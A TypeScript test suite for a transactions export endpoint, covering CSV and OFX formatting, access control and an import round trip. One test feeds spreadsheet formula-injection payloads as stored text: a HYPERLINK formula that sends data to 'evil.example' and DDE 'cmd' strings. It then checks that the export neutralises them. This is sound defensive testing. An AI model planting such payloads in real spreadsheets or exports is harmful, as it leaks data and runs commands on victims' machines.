import { expect } from 'chai'
import { parse } from 'csv-parse/sync'
import { createAccount, listTransactions, commitImport, uploadInit } from '../support/import-requests.js'
import { jsonInit, startTestApp, type TestApp } from '../support/test-app.js'
import { newUser } from '../support/tokens.js'

type Auth = Record<string, string>

async function seed(app: TestApp, auth: Auth, accountId: string): Promise<void> {
  const bodies = [
    {
      amount: '12.50',
      type: 'expense',
      occurred_at: '2026-10-01T08:30:00Z',
      merchant: 'Blue Bottle',
      description: 'Coffee, "large"',
    },
    {
      amount: '2500',
      type: 'income',
      occurred_at: '2026-10-02T00:00:00Z',
      merchant: 'ACME Corp',
      description: 'Salary\nOctober',
    },
    {
      amount: '0.10',
      type: 'expense',
      occurred_at: '2026-10-03T23:59:59.999Z',
      merchant: 'Café <Ünïcode> & Co',
      description: null,
    },
    {
      amount: '99.99',
      type: 'expense',
      occurred_at: '2026-11-15T10:00:00Z',
      merchant: 'Later',
      description: 'out of range',
    },
  ]
  for (const b of bodies) {
    const res = await app.fetch(
      '/transactions/',
      jsonInit('POST', { currency: 'USD', account_id: accountId, ...b }, auth),
    )
    expect(res.status).to.equal(201)
  }
}

describe('GET /transactions/export', () => {
  let app: TestApp
  before(async () => {
    app = await startTestApp()
  })
  after(async () => app.close())

  it('streams RFC 4180 CSV: header, CRLF, quoted fields, signed decimal strings, ISO dates, oldest first, filtered', async () => {
    const user = newUser()
    const account = await createAccount(app, user.auth)
    await seed(app, user.auth, account.id)
    const res = await app.fetch(
      `/transactions/export?format=csv&from=2026-10-01&to=2026-11-01&account_id=${account.id}`,
      jsonInit('GET', undefined, user.auth),
    )
    expect(res.status).to.equal(200)
    expect(res.headers.get('content-type')).to.match(/^text\/csv/)
    expect(res.headers.get('content-disposition')).to.equal('attachment; filename="transactions.csv"')
    const text = await res.text()
    expect(
      text.startsWith(
        'date,occurred_at,amount,currency,type,description,merchant,category,notes,reference,account_id,id,reconciled\r\n',
      ),
    ).to.equal(true)
    expect(text).to.contain('"Coffee, ""large"""')
    const records: Record<string, string>[] = parse(text, { columns: true })
    expect(records.map((r) => [r.date, r.amount, r.type, r.merchant, r.description])).to.deep.equal([
      ['2026-10-01', '-12.50', 'expense', 'Blue Bottle', 'Coffee, "large"'],
      ['2026-10-02', '2500', 'income', 'ACME Corp', 'Salary\nOctober'],
      ['2026-10-03', '-0.10', 'expense', 'Café <Ünïcode> & Co', ''],
    ])
    expect(records[0]!.occurred_at).to.equal('2026-10-01T08:30:00.000Z')
    expect(records[0]!.reference).to.equal(records[0]!.id)
  })

  it('neutralises text a spreadsheet would run as a formula; the signed amount stays a number', async () => {
    const user = newUser()
    const account = await createAccount(app, user.auth)
    // [merchant, description] as stored, then as the CSV cell holds them.
    const texts = [
      ['=HYPERLINK("http://evil.example/?x="&A1,"Refund")', "+cmd|' /C calc'!A0"],
      ['-2+3', "@SUM(1+1)*cmd|' /C calc'!A0"],
      ['Plain - Payee', 'a=b'],
    ]
    const cells = [
      ["'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0"],
      ['\'=HYPERLINK("http://evil.example/?x="&A1,"Refund")', "'+cmd|' /C calc'!A0"],
      ['Plain - Payee', 'a=b'],
    ]
    for (const [merchant, description] of texts) {
      const res = await app.fetch(
        '/transactions/',
        jsonInit(
          'POST',
          {
            amount: '12.50',
            type: 'expense',
            currency: 'USD',
            occurred_at: '2026-10-01T08:30:00Z',
            account_id: account.id,
            merchant,
            description,
          },
          user.auth,
        ),
      )
      expect(res.status).to.equal(201)
    }
    const res = await app.fetch(
      `/transactions/export?format=csv&account_id=${account.id}`,
      jsonInit('GET', undefined, user.auth),
    )
    const records: Record<string, string>[] = parse(await res.text(), { columns: true })
    expect(records.map((r) => [r.merchant, r.description]).sort()).to.deep.equal(cells)
    expect(records.map((r) => r.amount)).to.deep.equal(['-12.50', '-12.50', '-12.50'])
  })

  it('streams OFX 2.2: header, one STMTTRN per transaction with FITID, DTPOSTED, signed TRNAMT, escaped text, the balance', async () => {
    const user = newUser()
    const account = await createAccount(app, user.auth, { balance: '321.00' })
    await seed(app, user.auth, account.id)
    const res = await app.fetch(
      `/transactions/export?format=ofx&account_id=${account.id}`,
      jsonInit('GET', undefined, user.auth),
    )
    expect(res.status).to.equal(200)
    expect(res.headers.get('content-type')).to.match(/^application\/x-ofx/)
    const text = await res.text()
    expect(text).to.match(/^<\?xml version="1.0"/)
    expect(text).to.contain('<?OFX OFXHEADER="200" VERSION="220"')
    expect(text.match(/<STMTTRN>/g)).to.have.length(4)
    expect(text).to.contain('<TRNAMT>-12.50</TRNAMT>')
    expect(text).to.contain('<DTPOSTED>20261001083000.000[0:GMT]</DTPOSTED>')
    expect(text).to.contain('<NAME>Café &lt;Ünïcode&gt; &amp; Co</NAME>')
    expect(text).to.contain(
      '<DTSTART>20261001083000.000[0:GMT]</DTSTART><DTEND>20261115100000.000[0:GMT]</DTEND>',
    )
    expect(text).to.contain('<LEDGERBAL><BALAMT>321.00</BALAMT>')
    expect(text.indexOf('<DTSTART>')).to.be.lessThan(text.indexOf('<STMTTRN>'))
  })

  it('only the caller’s transactions; another user’s account is 422; a bad format or date is 400', async () => {
    const alice = newUser()
    const bob = newUser()
    const account = await createAccount(app, alice.auth)
    await seed(app, alice.auth, account.id)
    const bobs = await app.fetch('/transactions/export?format=csv', jsonInit('GET', undefined, bob.auth))
    expect(await bobs.text()).to.equal(
      'date,occurred_at,amount,currency,type,description,merchant,category,notes,reference,account_id,id,reconciled\r\n',
    )
    const foreign = await app.fetch(
      `/transactions/export?format=csv&account_id=${account.id}`,
      jsonInit('GET', undefined, bob.auth),
    )
    expect(foreign.status).to.equal(422)
    expect(
      (await app.fetch('/transactions/export?format=xls', jsonInit('GET', undefined, bob.auth))).status,
    ).to.equal(400)
    expect((await app.fetch('/transactions/export', jsonInit('GET', undefined, bob.auth))).status).to.equal(
      400,
    )
    expect(
      (
        await app.fetch(
          '/transactions/export?format=csv&from=yesterday',
          jsonInit('GET', undefined, bob.auth),
        )
      ).status,
    ).to.equal(400)
  })

  it('does not shadow /transactions/{id}', async () => {
    const user = newUser()
    const account = await createAccount(app, user.auth)
    await seed(app, user.auth, account.id)
    const [latest] = await listTransactions(app, user.auth)
    const res = await app.fetch(
      `/transactions/${latest!.id as string}`,
      jsonInit('GET', undefined, user.auth),
    )
    expect(res.status).to.equal(200)
    expect((await app.fetch('/transactions/export/', jsonInit('GET', undefined, user.auth))).status).to.equal(
      400,
    )
  })

  // Runs with the real statement readers (src/adapters/statements); skipped while only the placeholder is built in.
  for (const format of ['csv', 'ofx'] as const) {
    it(`round trip: a ${format.toUpperCase()} export reads back through our importer with no difference`, async function () {
      const user = newUser()
      const source = await createAccount(app, user.auth)
      await seed(app, user.auth, source.id)
      const exported = await (
        await app.fetch(
          `/transactions/export?format=${format}&account_id=${source.id}`,
          jsonInit('GET', undefined, user.auth),
        )
      ).text()
      const target = await createAccount(app, user.auth, { name: 'Copy' })
      const mapping =
        format === 'csv'
          ? JSON.stringify({
              date: 'date',
              amount: 'amount',
              currency: 'currency',
              description: 'description',
              merchant: 'merchant',
              reference: 'reference',
            })
          : undefined
      const res = await app.fetch(
        '/imports/',
        uploadInit(user.auth, exported, { account_id: target.id, format, ...(mapping ? { mapping } : {}) }),
      )
      if (res.status === 422) {
        const problem = (await res.json()) as { expected?: string }
        if (problem.expected?.includes('none is installed')) this.skip()
        expect.fail(JSON.stringify(problem))
      }
      expect(res.status).to.equal(201)
      const preview = (await res.json()) as { id: string }
      await commitImport(app, user.auth, preview.id)
      const original = await listTransactions(app, user.auth, `&account_id=${source.id}`)
      const copy = await listTransactions(app, user.auth, `&account_id=${target.id}`)
      const shape = (t: Record<string, unknown>) => ({
        day: (t.occurred_at as string).slice(0, 10),
        amount: Number(t.amount).toFixed(2),
        type: t.type,
        currency: t.currency,
        texts: [t.merchant, t.description].filter((x) => x !== null && x !== '').sort(),
        ref: (t.external_id as string | null) ?? t.id,
      })
      expect(copy.map(shape)).to.deep.equal(original.map(shape))
    })
  }
})
